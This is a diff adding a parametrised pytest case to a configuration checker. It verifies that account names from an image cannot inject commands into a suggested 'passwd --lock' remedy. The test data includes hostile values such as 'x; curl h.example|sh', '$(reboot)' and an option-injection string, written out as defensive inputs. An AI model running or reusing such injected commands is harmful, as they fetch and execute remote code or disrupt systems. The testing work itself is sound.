@@ -156,3 +156,22 @@ def test_a_reason_counts_problems_and_not_the_entries_that_name_them() -> None:
     assert summarise_problems(every).endswith(f", and {MAX_SHOWN + 6} more problems")
     assert summarise_problems(every[:2]).endswith(", and 1 more problem")
     assert summarise_problems(every[:1]) == f"configuration: /opt/000: {every[0].what}"
+
+
+@pytest.mark.parametrize(
+    ("account", "command"),
+    [
+        ("ada", "passwd --lock ada"),
+        ("x; curl h.example|sh", "passwd --lock ACCOUNT"),
+        ("$(reboot)", "passwd --lock ACCOUNT"),
+        ("--root=/", "passwd --lock ACCOUNT"),
+        ("a\nb", "passwd --lock ACCOUNT"),
+    ],
+)
+def test_a_name_of_an_image_enters_no_command_that_a_person_may_paste(
+    account: str, command: str
+) -> None:
+    inside = replace(CLEAN, passwords={account: "is empty"})
+    (problem,) = check_configuration({"architecture": "amd64", "config": RUN}, inside, ALLOWED)
+    assert problem.where == account
+    assert f"`{command}`" in problem.way_out
